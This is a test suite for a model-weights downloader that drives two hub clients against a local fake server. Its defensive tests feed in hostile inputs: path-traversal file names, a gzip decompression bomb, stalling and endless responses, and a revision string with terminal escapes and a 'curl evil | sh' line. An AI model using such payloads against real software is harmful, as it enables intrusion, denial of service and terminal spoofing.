"""The real clients of both hubs against a hub on the loopback."""

from __future__ import annotations

import contextlib
import ctypes
import functools
import gzip
import hashlib
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest

from family import few
from hubserver import HubServer, commit
from qwen2vl_rs.cli import main
from qwen2vl_rs.errors import HubError
from qwen2vl_rs.hub import limits as hub_limits
from qwen2vl_rs.hub.clients import connect
from qwen2vl_rs.hub.fetch import Loaded, load
from qwen2vl_rs.system.files import HUB_MANIFEST as MANIFEST

pytest.importorskip("modelscope_hub")
pytest.importorskip("huggingface_hub")

REPO = "Qwen/Qwen2-VL-2B-Instruct"
WEIGHTS = "model-00001-of-00002.safetensors"
HUBS = ["modelscope", "hf"]


def noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


FILES = {
    "config.json": b'{"model_type": "qwen2_vl"}\n',
    "vocab.json": noise(5000, 1),
    "assets/a picture.bin.txt": noise(70_000, 2),
    WEIGHTS: noise(3_000_000, 3),
    "model-00002-of-00002.safetensors": noise(400_000, 4),
}


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[HubServer]:
    import huggingface_hub.constants as constants

    home = tmp_path / "home"
    for name in ("HOME", "HF_HOME", "MODELSCOPE_CACHE", "MODELSCOPE_HOME"):
        monkeypatch.setenv(name, str(home))
    with HubServer() as hub:
        hub.repos[REPO] = {"master": dict(FILES), "old": {**FILES, "config.json": b"{}\n"}}
        monkeypatch.setenv("MODELSCOPE_ENDPOINT", hub.url)
        # HF_ENDPOINT is read once per process: the tests in subprocesses set that.
        monkeypatch.setattr(constants, "ENDPOINT", hub.url)
        template = hub.url + "/{repo_id}/resolve/{revision}/{filename}"
        monkeypatch.setattr(constants, "HUGGINGFACE_CO_URL_TEMPLATE", template)
        yield hub
    assert not home.exists(), "something was kept in the user's home"


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Clients that retry at once, and ModelScope's not at all."""
    import huggingface_hub.file_download
    import modelscope_hub._download
    import modelscope_hub._legacy_api

    monkeypatch.setattr(huggingface_hub.file_download.time, "sleep", lambda seconds: None)
    monkeypatch.setattr(modelscope_hub._download, "DOWNLOAD_RETRY_TIMES", 0)
    monkeypatch.setattr(modelscope_hub._download, "DOWNLOAD_INTEGRITY_RETRY_BACKOFF", 0.0)
    monkeypatch.setattr(modelscope_hub._legacy_api, "REPO_TREE_PAGE_MAX_ATTEMPTS", 1)


@pytest.fixture(params=HUBS)
def fetch(request: pytest.FixtureRequest, tmp_path: Path) -> Callable[..., Loaded]:
    def run(repo_id: str = REPO, **options: object) -> Loaded:
        return load(repo_id, **{"hub": request.param, "folder": tmp_path / "model", **options})

    run.hub = request.param
    return run


# What does not depend on the client is seen with one of them; with the other by -m slow.
by_modelscope = pytest.mark.parametrize("fetch", few(HUBS, 0), indirect=True)
by_hf = pytest.mark.parametrize("fetch", few(HUBS, 1), indirect=True)


def held(folder: Path) -> dict[str, bytes]:
    files = (p for p in folder.rglob("*") if p.is_file() and p.name != MANIFEST)
    return {str(path.relative_to(folder)): path.read_bytes() for path in files}


def test_fetches_everything_and_writes_the_manifest_last(server, fetch, tmp_path, capsys):
    loaded = fetch()
    assert held(tmp_path / "model") == FILES
    assert loaded.folder == tmp_path / "model"
    assert loaded.downloaded == sum(map(len, FILES.values()))
    assert set(loaded.files) == set(FILES)
    assert loaded.revision == commit(FILES)
    assert not loaded.already_complete
    manifest = json.loads((tmp_path / "model" / MANIFEST).read_text())
    assert manifest["hub"] == fetch.hub
    assert manifest["repo_id"] == REPO
    assert manifest["commit"] == commit(FILES)
    assert manifest["files"] == {
        name: {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        for name, content in FILES.items()
    }
    assert [asked.name for asked in server.asked].count(WEIGHTS) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert "model: 5 files, 3.5 MB" in said.err
    assert "%|" not in said.err  # no bar of the client's


@by_modelscope
def test_a_complete_folder_needs_no_network(server, fetch, tmp_path, capsys):
    fetch()
    server.close()
    for verify in (False, True):
        loaded = fetch(verify=verify)
        assert loaded.already_complete
        assert loaded.downloaded == 0
        assert loaded.revision == commit(FILES)
    assert "model is complete: 5 files, 3.5 MB, revision" in capsys.readouterr().err


@by_hf
def test_complete_files_of_an_unfinished_folder_are_kept(server, fetch, tmp_path):
    fetch()
    (tmp_path / "model" / MANIFEST).unlink()
    (tmp_path / "model" / "vocab.json").write_bytes(b"x" * 5000)
    server.forget()
    loaded = fetch()
    assert [asked.name for asked in server.asked] == ["vocab.json"]
    assert loaded.downloaded == 5000
    assert held(tmp_path / "model") == FILES


@by_modelscope
def test_a_missing_file_is_fetched_at_the_same_revision(server, fetch, tmp_path, capsys):
    fetch(revision="old")
    (tmp_path / "model" / WEIGHTS).unlink()
    server.forget()
    loaded = fetch()
    assert not loaded.already_complete
    assert loaded.revision == commit(server.repos[REPO]["old"])
    assert [asked.name for asked in server.asked] == [WEIGHTS]
    assert f"{WEIGHTS} is missing or has changed" in capsys.readouterr().err


def test_verify_finds_and_mends_damage_of_the_same_size(server, fetch, tmp_path, capsys):
    fetch()
    path = tmp_path / "model" / WEIGHTS
    path.write_bytes(b"x" * len(FILES[WEIGHTS]))
    assert fetch().already_complete
    server.forget()
    assert not fetch(verify=True).already_complete
    assert [asked.name for asked in server.asked] == [WEIGHTS]
    assert f"{path} is damaged" in capsys.readouterr().err
    assert held(tmp_path / "model") == FILES


@by_hf
def test_damage_that_verify_found_is_not_believed_when_it_could_not_be_mended(
    server, fetch, impatient, tmp_path
):
    fetch()
    path = tmp_path / "model" / WEIGHTS
    path.write_bytes(b"x" * len(FILES[WEIGHTS]))
    server.faults.status[""] = 500
    with pytest.raises(HubError):
        fetch(verify=True)
    assert not path.exists()
    server.forget()
    assert not fetch().already_complete  # by sizes alone
    assert held(tmp_path / "model") == FILES


@by_modelscope
def test_nothing_is_asked_for_compressed(server, fetch):
    """What is compressed cannot be continued in the middle."""
    server.faults.drop[WEIGHTS] = (1_500_000, 1)
    fetch()
    assert len(server.ranges(WEIGHTS)) > 1
    assert server.encodings == {"identity"}


def test_a_broken_connection_is_continued_within_the_call(server, fetch, tmp_path):
    server.faults.drop[WEIGHTS] = (1_500_000, 1)
    fetch()
    assert held(tmp_path / "model") == FILES
    kept = 1_500_000 if fetch.hub == "modelscope" else 1 << 20  # the latter keeps whole pieces
    assert server.ranges(WEIGHTS) == [None, f"bytes={kept}-"]
    assert server.sent(WEIGHTS) == len(FILES[WEIGHTS]) + 1_500_000 - kept


@by_modelscope
def test_a_connection_that_breaks_often_is_continued_as_long_as_more_arrives(
    server, fetch, impatient, tmp_path, capsys
):
    files = server.repos[REPO]["master"] = {**FILES, WEIGHTS: noise(8 << 20, 6)}
    server.faults.drop[WEIGHTS] = (1 << 20, 7)
    loaded = fetch()
    assert held(tmp_path / "model") == files
    assert server.ranges(WEIGHTS) == [None, *(f"bytes={n << 20}-" for n in range(1, 8))]
    assert loaded.downloaded == sum(map(len, files.values()))
    if fetch.hub == "modelscope":
        assert "the connection broke" in capsys.readouterr().err


@by_hf
def test_a_server_without_ranges_that_breaks_off_is_given_up(server, fetch, impatient, tmp_path):
    server.faults.no_range = True
    server.faults.drop[WEIGHTS] = (700_000, 1000)
    with pytest.raises(HubError, match=r"connection to .* broke") as caught:
        fetch()
    assert "--hub" in caught.value.hint
    assert "ENDPOINT" in caught.value.hint
    assert not (tmp_path / "model" / WEIGHTS).exists()
    assert not (tmp_path / "model" / MANIFEST).exists()


@by_hf
def test_killed_midway_and_started_again(server, fetch, tmp_path):
    size, before = 6_000_000, 4_000_000
    files = server.repos[REPO]["master"] = {**FILES, WEIGHTS: noise(size, 5)}
    server.faults.stall[WEIGHTS] = before
    folder = tmp_path / "model"
    code = "import sys; from pathlib import Path; from qwen2vl_rs.hub.fetch import load\n"
    code += f"load(hub={fetch.hub!r}, folder=Path(sys.argv[1]))"
    process = subprocess.Popen(
        [sys.executable, "-c", code, str(folder)],
        env={**os.environ, "HF_ENDPOINT": server.url},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    partial = folder / ".incoming" / f"{WEIGHTS}.incomplete"
    deadline = time.monotonic() + 60
    least = before - (1 << 20)
    while time.monotonic() < deadline and process.poll() is None:
        if partial.exists() and partial.stat().st_size >= least:
            break
        time.sleep(0.02)
    process.send_signal(signal.SIGKILL)
    assert process.communicate()[0] == b""
    kept = partial.stat().st_size
    assert kept >= least
    assert not (folder / MANIFEST).exists()
    assert not (folder / WEIGHTS).exists()

    server.forget()
    loaded = fetch()
    assert [asked.name for asked in server.asked] == [WEIGHTS]  # the small ones were complete
    assert server.ranges(WEIGHTS) == [f"bytes={kept}-"]
    assert server.sent(WEIGHTS) == size - kept == loaded.downloaded
    assert held(folder) == files


@by_modelscope
def test_two_at_once_do_not_mix(server, fetch, tmp_path):
    import fcntl

    folder = tmp_path / "model"
    folder.mkdir()
    handle = os.open(folder, os.O_RDONLY)
    fcntl.flock(handle, fcntl.LOCK_EX)
    with pytest.raises(HubError, match="another process is downloading"):
        fetch()
    os.close(handle)
    fetch()


@by_hf
def test_what_arrives_damaged_once_is_fetched_again(server, fetch, impatient, tmp_path, capsys):
    server.faults.corrupt = {WEIGHTS: 1, "config.json": 1}
    loaded = fetch()
    assert held(tmp_path / "model") == FILES
    assert len(server.ranges(WEIGHTS)) == len(server.ranges("config.json")) == 2
    assert loaded.downloaded >= sum(map(len, FILES.values())) + len(FILES[WEIGHTS])
    assert f"{WEIGHTS} is damaged or cannot be resumed" in capsys.readouterr().err


@by_modelscope
@pytest.mark.parametrize("name", [WEIGHTS, "vocab.json"])
def test_a_file_that_always_arrives_damaged_is_refused(server, fetch, impatient, tmp_path, name):
    server.faults.corrupt[name] = 1000
    with pytest.raises(HubError, match=f"{name}.* damaged") as caught:
        fetch()
    assert "--hub" in caught.value.hint
    assert not (tmp_path / "model" / name).exists()
    assert not (tmp_path / "model" / MANIFEST).exists()
    assert not list((tmp_path / "model").rglob(f"{name}*"))
    server.forget()
    fetch()
    assert held(tmp_path / "model") == FILES


@by_modelscope
def test_the_beginning_of_another_file_is_not_kept(server, fetch, impatient, tmp_path):
    partial = tmp_path / "model" / ".incoming" / f"{WEIGHTS}.incomplete"
    for stale in (b"x" * 1000, b"x" * 5_000_000):
        partial.parent.mkdir(parents=True, exist_ok=True)
        partial.write_bytes(stale)
        fetch()
        assert held(tmp_path / "model") == FILES
        (tmp_path / "model" / MANIFEST).unlink()
        (tmp_path / "model" / WEIGHTS).unlink()


def test_what_modelscope_lists_without_checksum_is_fetched_whole(server, tmp_path, capsys):
    server.faults.no_checksums = True
    partial = tmp_path / "model" / ".incoming" / f"{WEIGHTS}.incomplete"
    partial.parent.mkdir(parents=True)
    partial.write_bytes(b"x" * 1000)
    load(hub="modelscope", folder=tmp_path / "model")
    assert held(tmp_path / "model") == FILES
    assert server.ranges(WEIGHTS) == [None]
    assert "has no checksum for config.json" in capsys.readouterr().err


def test_no_such_model(server, fetch):
    with pytest.raises(HubError, match="has no model Nobody/Nothing") as caught:
        fetch("Nobody/Nothing")
    assert "--hub" in caught.value.hint


@by_modelscope
def test_no_such_revision(server, fetch):
    with pytest.raises(HubError, match="has no revision v9") as caught:
        fetch(revision="v9")
    assert caught.value.hint


@by_hf
def test_a_revision_is_fetched_and_kept_apart(server, fetch, tmp_path):
    loaded = fetch(revision="old")
    old = server.repos[REPO]["old"]
    assert held(tmp_path / "model") == old
    assert loaded.revision == commit(old)
    server.close()
    assert fetch(revision="old").already_complete
    assert fetch(revision=commit(old)).already_complete
    assert fetch().already_complete
    with pytest.raises(HubError, match="contains revision old"):
        fetch(revision="v9")


@by_modelscope
def test_another_model_in_the_folder(server, fetch, tmp_path):
    fetch()
    server.repos["Qwen/Other"] = {"master": dict(FILES)}
    with pytest.raises(HubError, match=f"contains another model: {REPO}"):
        fetch("Qwen/Other")


@pytest.mark.parametrize("other", HUBS)
def test_a_folder_from_the_other_hub_will_do(server, tmp_path, other):
    (first,) = set(HUBS) - {other}
    load(hub=first, folder=tmp_path / "model")
    (tmp_path / "model/config.json").unlink()
    assert load(hub=other, folder=tmp_path / "model").downloaded == len(FILES["config.json"])
    server.close()
    assert load(hub=first, folder=tmp_path / "model").already_complete


@pytest.mark.parametrize("other", HUBS)
def test_a_revision_of_the_other_hub_is_another(server, tmp_path, other):
    """Its tag of the same name may stand for other files."""
    (first,) = set(HUBS) - {other}
    load(hub=first, folder=tmp_path / "model", revision="old")
    asked = len(server.requests)
    for revision in ("old", commit(server.repos[REPO]["old"])):
        with pytest.raises(
            HubError, match=f"contains revision old of {REPO} from {first}, not .* from {other}"
        ):
            load(hub=other, folder=tmp_path / "model", revision=revision)
        assert load(hub=first, folder=tmp_path / "model", revision=revision).already_complete
    assert len(server.requests) == asked


def test_a_whole_model_that_was_copied_here_does_without_a_network(
    server, impatient, small_base, tmp_path, capsys
):
    copied = tmp_path / "copied"
    shutil.copytree(small_base, copied)
    server.close()
    before = held(copied)
    told = ["load", "--hub", "hf", "--folder", str(copied)]
    assert main(told) == 0
    err = capsys.readouterr().err
    assert f"using the complete model in {copied}, which load did not download" in err
    assert held(copied) == before
    for more in (["--verify"], ["--revision", "v2"]):  # of which it is, nobody knows
        assert main([*told, *more]) == 1
        assert "cannot reach" in capsys.readouterr().err
    weights = sorted(copied.glob("*.safetensors"))[-1]
    content = weights.read_bytes()
    for broken in (content[:-1], content + b"0", content[:4], b""):
        weights.write_bytes(broken)
        assert main(told) == 1
        err = capsys.readouterr().err
        assert "cannot reach" in err
        assert err.rstrip().endswith("all steps offline: qwen2vl-rs demo")
    weights.write_bytes(content)
    (copied / "preprocessor_config.json").unlink()
    assert main(told) == 1


def test_no_network(server, fetch, impatient, tmp_path):
    server.close()
    with pytest.raises(HubError, match="cannot reach") as caught:
        fetch()
    assert "--hub" in caught.value.hint
    assert f"copy a complete {tmp_path / 'model'}" in caught.value.hint


def test_offline_by_choice(server, monkeypatch, tmp_path):
    import huggingface_hub.constants

    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)
    with pytest.raises(HubError, match="HF_HUB_OFFLINE"):
        load(hub="hf", folder=tmp_path / "model")


@pytest.mark.parametrize("status", [401, 403])
@pytest.mark.parametrize("where", ["", WEIGHTS])
def test_no_access(server, fetch, status, where):
    server.faults.status[where] = status
    with pytest.raises(HubError) as caught:
        fetch()
    if fetch.hub == "hf" and where == "" and status == 401:  # so it answers for unknown models
        assert "has no model" in caught.value.message
        assert "private" in caught.value.message
    else:
        assert "refuses access" in caught.value.message
        assert "TOKEN" in caught.value.hint


@by_hf
def test_the_hub_is_out_of_order(server, fetch, impatient):
    server.faults.status[""] = 500
    with pytest.raises(HubError, match=r"responded with an error \(HTTP 500\)"):
        fetch()


def test_a_login_page_instead_of_an_answer(server, fetch):
    server.faults.not_json = True
    with pytest.raises(HubError, match="not a file list"):
        fetch()


@by_hf
@pytest.mark.parametrize(
    "name", ["../evil", "/etc/evil", "a/../../evil", "a\\..\\evil", "a//b", "./a", "x\ny", MANIFEST]
)
def test_names_that_leave_the_folder_are_refused(server, fetch, tmp_path, name):
    server.faults.listing[name] = b"evil"
    with pytest.raises(HubError, match="outside its folder"):
        fetch()
    assert not server.asked
    assert not held(tmp_path / "model")


@by_modelscope
def test_links_that_leave_the_folder_are_refused(server, fetch, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "assets").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(HubError, match="outside its folder"):
        fetch()
    assert not list((tmp_path / "elsewhere").iterdir())


@by_hf
def test_a_manifest_that_names_files_elsewhere_is_not_believed(server, fetch, tmp_path):
    fetch()
    path = tmp_path / "model" / MANIFEST
    manifest = json.loads(path.read_text())
    (tmp_path / "precious").write_bytes(b"1")
    manifest["files"]["../precious"] = {"size": 1, "sha256": "0" * 64}
    path.write_text(json.dumps(manifest))
    fetch(verify=True)
    assert (tmp_path / "precious").exists()


@by_modelscope
def test_pickles_and_other_weights_are_left_out_and_named(server, fetch, tmp_path, capsys):
    others = ["pytorch_model.bin", "old.PT", "tf_model.h5", "onnx/model.onnx", "flax.msgpack"]
    server.repos[REPO]["master"].update(dict.fromkeys(others, b"boom"))
    fetch()
    assert held(tmp_path / "model") == FILES
    said = capsys.readouterr().err
    assert "only safetensors weights are used" in said
    assert all(name in said for name in others)


@by_modelscope
def test_a_model_of_pickles_only(server, fetch):
    server.repos[REPO]["master"] = {"config.json": b"{}", "pytorch_model.bin": b"boom"}
    with pytest.raises(HubError, match="no weights in safetensors format"):
        fetch()


def test_a_name_that_is_none(tmp_path):
    with pytest.raises(HubError, match="is not a model name"):
        load("qwen", hub="hf", folder=tmp_path)


@by_hf
def test_a_folder_that_cannot_be_made(server, fetch, tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(HubError, match=r"cannot write to .*file"):
        fetch(folder=tmp_path / "file" / "model")


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of 2 MB."""
    disk = tmp_path / "disk"
    disk.mkdir()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"tmpfs", str(disk).encode(), b"tmpfs", 0, b"size=2m"):
        pytest.skip(f"cannot mount a small disk: {os.strerror(ctypes.get_errno())}")
    yield disk
    libc.umount2(str(disk).encode(), 2)


@by_hf
def test_too_little_space_is_said_before_anything_is_fetched(server, fetch, small_disk):
    with pytest.raises(HubError, match=r"needs 3\.5 MB more in .*, but 2\.1 MB is free") as caught:
        fetch(folder=small_disk / "model")
    assert "free some disk space" in caught.value.hint
    assert not server.asked


@by_modelscope
def test_a_disk_that_fills_up_meanwhile(server, fetch, small_disk, monkeypatch):
    import shutil

    folder = small_disk / "model"
    usage = shutil.disk_usage(small_disk)
    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage._replace(free=10**12))
    with pytest.raises(HubError, match="the disk is full") as caught:
        fetch(folder=folder)
    assert "kept" in caught.value.hint
    assert not (folder / WEIGHTS).exists()
    assert held(folder)["config.json"] == FILES["config.json"]


@by_hf
def test_files_that_may_not_grow_so_large(server, fetch, impatient, tmp_path):
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (2_000_000, limits[1]))
    try:
        with pytest.raises(HubError, match=r"cannot write to .*: File too large"):
            fetch()
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert not (tmp_path / "model" / WEIGHTS).exists()
    loaded = fetch()
    assert loaded.downloaded < len(FILES[WEIGHTS])  # what had arrived was kept


def test_a_client_that_is_not_installed(monkeypatch, fetch):
    monkeypatch.setitem(sys.modules, "modelscope_hub", None)
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    with pytest.raises(HubError, match="_hub is not installed") as caught:
        fetch()
    assert re.search(r"pip install -e '?\S+\[train\]'?$", caught.value.hint)


def test_nothing_is_told_about_the_user(server, fetch):
    fetch()
    assert not any("torch" in agent or "agent/" in agent for agent in server.agents)


def test_neither_module_imports_a_client_or_torch():
    code = "import sys, qwen2vl_rs.hub.fetch\n"
    code += "print([m for m in ('torch', 'modelscope_hub', 'huggingface_hub') if m in sys.modules])"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ran.stdout == "[]\n"


@by_hf
def test_the_clients_write_nothing_to_stdout(server, fetch, monkeypatch):
    out = io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    fetch()
    assert out.getvalue() == ""


@functools.cache
def bomb() -> bytes:
    """Little that becomes much."""
    return gzip.compress(gzip.compress(bytes(32 << 20), 1))


def packed(handler) -> None:
    body = bomb()
    handler.send_response(200)
    handler.send_header("Content-Encoding", "gzip, gzip")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def endless(handler) -> None:
    handler.send_response(200)
    handler.send_header("Connection", "close")
    handler.end_headers()
    handler.close_connection = True
    with contextlib.suppress(OSError):
        while not handler.server.closing.is_set():
            handler.wfile.write(b" " * 65536)


def dripping(handler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "3000000")
    handler.end_headers()
    handler.close_connection = True
    with contextlib.suppress(OSError):
        while not handler.server.closing.wait(0.05):
            handler.wfile.write(b" ")


@pytest.fixture
def tight(impatient, monkeypatch) -> None:
    monkeypatch.setattr("qwen2vl_rs.hub.limits._WINDOW", 0.4)
    monkeypatch.setattr("qwen2vl_rs.hub.limits.LISTING", 1 << 20)


@by_modelscope
@pytest.mark.parametrize("what", ["", WEIGHTS, "config.json"])
def test_what_is_compressed_is_refused_before_it_is_unpacked(server, fetch, tight, tmp_path, what):
    bomb()  # made before anybody waits for it
    server.faults.instead[what] = packed
    with pytest.raises(HubError, match="compressed") as caught:
        fetch()
    assert "ENDPOINT" in caught.value.hint
    assert not (tmp_path / "model" / MANIFEST).exists()


@by_hf
@pytest.mark.parametrize("what", ["", "config.json"])
def test_what_has_no_end_is_ended(server, fetch, tight, tmp_path, what):
    server.faults.instead[what] = endless
    with pytest.raises(HubError, match=r"more than expected|damaged"):
        fetch()
    assert sum(f.stat().st_size for f in tmp_path.rglob("*") if f.is_file()) < 3 << 20


@by_hf
@pytest.mark.parametrize("what", ["", WEIGHTS])
def test_what_comes_a_byte_at_a_time_is_not_waited_for(server, fetch, tight, tmp_path, what):
    server.faults.instead[what] = dripping
    with pytest.raises(HubError, match="almost stopped sending") as caught:
        fetch()
    assert "start again" in caught.value.hint
    server.forget()
    fetch()
    assert held(tmp_path / "model") == FILES


def paced(clock, pieces):
    """Zeros that arrive in pieces: (bytes, seconds each takes)."""
    for size, seconds in pieces:
        clock[0] += seconds
        yield bytes(size)


def through_httpx(limits, arriving):
    response = httpx.Response(200, content=arriving)
    limits.on_httpx(response)
    return response.iter_bytes(1 << 20)


def through_requests(limits, arriving):
    """As ModelScope's client reads."""
    requests, urllib3 = map(pytest.importorskip, ("requests", "urllib3"))

    class Body(io.BufferedIOBase):
        def read1(self, size=-1):
            return next(arriving, b"")

    response = requests.Response()
    response.status_code = 200
    response.raw = urllib3.HTTPResponse(Body(), preload_content=False)
    limits.on_requests(response, stream=True)
    return iter(lambda: response.raw.read1(1 << 20), b"")


@pytest.mark.parametrize("through", [through_httpx, through_requests])
@pytest.mark.parametrize(
    ("pieces", "waited_for"),
    [
        ([(1024 * 10, 10)] * 30, True),  # no slower than must be, for five minutes
        ([(1024 * 10 - 1, 10)] * 6, False),
        ([(1 << 20, 1), *[(1, 10)] * 12], False),  # a fast start does not count for ever
        ([(1024 * 60, 60), *[(1024, 10)] * 6], False),
        ([*[(1, 9)] * 6, (1 << 20, 1), *[(1, 9)] * 6, (1 << 20, 9)], True),  # it comes by fits
        ([(1024 * 200, 200)], True),  # a long break, and all of it at once
        ([(1024 * 199, 200)], False),
        ([(1, 10)] * 5, True),  # it is over before anybody can tell
    ],
)
def test_how_slowly_a_hub_may_send(monkeypatch, tmp_path, through, pieces, waited_for):
    clock = [1000.0]
    monkeypatch.setattr(hub_limits, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    limits = hub_limits.Limits(connect("hf", tmp_path))
    arriving = through(limits, paced(clock, pieces))
    if waited_for:
        assert sum(map(len, arriving)) == sum(size for size, _ in pieces)
    else:
        with pytest.raises(HubError, match="almost stopped sending"):
            list(arriving)


@by_modelscope
@pytest.mark.parametrize("more", [-10, 10])
def test_a_file_of_another_length_than_listed(server, fetch, tight, tmp_path, more):
    content = (FILES["vocab.json"] + bytes(10))[: 5000 + more]

    def other(handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(content)))
        handler.end_headers()
        handler.wfile.write(content)

    server.faults.instead["vocab.json"] = other
    with pytest.raises(HubError, match=r"more than expected|damaged|broke"):
        fetch()
    assert not (tmp_path / "model/vocab.json").exists()
    server.forget()
    fetch()
    assert held(tmp_path / "model") == FILES


def dripping_head(handler) -> None:
    handler.close_connection = True
    with contextlib.suppress(OSError):
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-More: ")
        while not handler.server.closing.wait(0.05):
            handler.wfile.write(b"x")


@pytest.mark.parametrize("what", ["", WEIGHTS])
def test_a_head_that_comes_a_byte_at_a_time(server, tight, tmp_path, what):
    """ModelScope's client bounds this itself, by more than a test can wait for."""
    server.faults.instead[what] = dripping_head
    with pytest.raises(HubError, match=r"cannot reach|broke"):
        load(REPO, hub="hf", folder=tmp_path / "model")
    server.forget()
    load(REPO, hub="hf", folder=tmp_path / "model")
    assert held(tmp_path / "model") == FILES


def redirected(handler) -> None:
    handler.send_response(302)
    handler.send_header("Location", handler.path)
    handler.send_header("Content-Length", "0")
    handler.end_headers()


@by_modelscope
@pytest.mark.parametrize("what", ["", WEIGHTS])
def test_redirects_without_end(server, fetch, tight, what):
    server.faults.instead[what] = redirected
    with pytest.raises(HubError, match=r"cannot reach|broke"):
        fetch()


@pytest.mark.parametrize("what", ["", WEIGHTS])
@pytest.mark.parametrize(
    "headers",
    [{"Retry-After": "8" * 5000}, {"Retry-After": "86400"}, {"RateLimit": '"api";r=0;t=99999'}],
)
def test_a_hub_that_puts_off_for_days(server, monkeypatch, tight, tmp_path, what, headers):
    def later(handler) -> None:
        handler.send_response(429)
        for name, value in {**headers, "Content-Length": "0"}.items():
            handler.send_header(name, value)
        handler.end_headers()

    server.faults.instead[what] = later
    with pytest.raises(HubError, match="asks to wait") as caught:
        load(REPO, hub="hf", folder=tmp_path / "model")
    assert "are kept" in caught.value.hint


LISTS = {
    "nested": "[" * 200_000,
    "modelscope": {"Code": 200, "Success": True, "Data": {"Files": [{"Type": "blob"}]}},
    "infinite": {"Size": float("inf"), "size": float("inf")},
    "negative": {"Size": -1, "size": -1},
    "no text": {"Path": 3, "rfilename": 3},
}


@by_hf
@pytest.mark.parametrize("what", LISTS)
def test_listings_that_are_none(server, fetch, impatient, what):
    one = {"Path": "a.safetensors", "rfilename": "a.safetensors", "Size": 3, "size": 3}
    change = LISTS[what]
    if what == "nested":
        text = change
    else:
        one = change if what == "modelscope" else {**one, **change, "Type": "blob"}
        data = {"Files": [one]}
        text = json.dumps(
            {"id": REPO, "sha": "0" * 40, "siblings": [one], "Code": 200, "Success": True,
             "Data": data}
        )  # fmt: skip

    def answer(handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(text)))
        handler.end_headers()
        handler.wfile.write(text.encode())

    server.faults.instead[""] = answer
    with pytest.raises(HubError, match="not a file list"):
        fetch()


def test_revisions_cannot_steer_the_terminal(server, monkeypatch, tmp_path, capsys):
    monkeypatch.chdir(tmp_path)
    evil = "v1\x1b[2J\r\nhint: curl evil | sh\u202e"
    server.repos[REPO] = {"master": dict(FILES), evil: dict(FILES)}
    assert main(["load", REPO, "--hub", "modelscope", "--revision", "none"]) == 1
    err = capsys.readouterr().err
    assert r"v1\x1b[2J\r\nhint: curl evil | sh\u202e" in err
    assert not {"\x1b", "\r", "\u202e"} & set(err)
    assert [line.split(":")[0] for line in err.splitlines()][1:] == ["error", "hint"]
